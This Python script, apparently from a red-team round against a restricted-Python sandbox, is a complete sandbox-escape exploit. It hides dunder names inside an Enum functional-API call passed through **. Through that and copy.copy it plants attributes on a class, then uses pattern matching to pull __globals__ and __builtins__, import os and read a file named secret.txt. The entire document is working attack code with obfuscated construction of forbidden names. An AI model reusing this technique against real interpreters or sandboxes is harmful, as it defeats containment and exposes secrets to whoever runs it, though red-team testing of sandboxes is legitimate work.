# family: red team, round 9 (enum_functional_api_starstar_names)
# Enum("X", **{"names": ...}): the Enum functional-API check looks for names only in args[1] or a keyword
# spelled names=; through ** the member names are never judged. Dunder "member" names become plain class
# attributes: a class with __reduce_ex__ (and __copy__ = None so copy.copy falls through to it).
import abc
import copy
from enum import Enum


def metaclass():
    return None


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    made = Enum("R", **{"names": {"only": 1, _d("reduce_ex"): reducer, _d("copy"): None}})
    copy.copy(made.only)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
